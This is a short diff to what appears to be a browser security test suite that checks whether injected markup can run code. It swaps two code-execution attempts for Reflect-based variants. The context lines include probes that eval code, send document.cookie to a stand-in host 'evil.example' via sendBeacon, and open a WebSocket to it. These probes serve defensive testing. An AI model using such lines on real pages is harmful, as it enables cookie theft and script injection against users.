@@ -134,8 +134,8 @@ test.describe('markup that got into a page after all', () => {
           place.click();
         });
         attempt(() => (0, eval)('window.attacked=1'));
-        attempt(() => new Function('window.attacked=1')() as unknown);
-        attempt(() => setTimeout('window.attacked=1', 0));
+        attempt(() => (Reflect.construct(Function, ['window.attacked=1']) as () => unknown)());
+        attempt(() => Reflect.apply(setTimeout, window, ['window.attacked=1', 0]) as unknown);
         attempt(() => navigator.sendBeacon('https://evil.example/beacon', document.cookie));
         attempt(() => new WebSocket('wss://evil.example/socket'));
         attempt(() => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))));
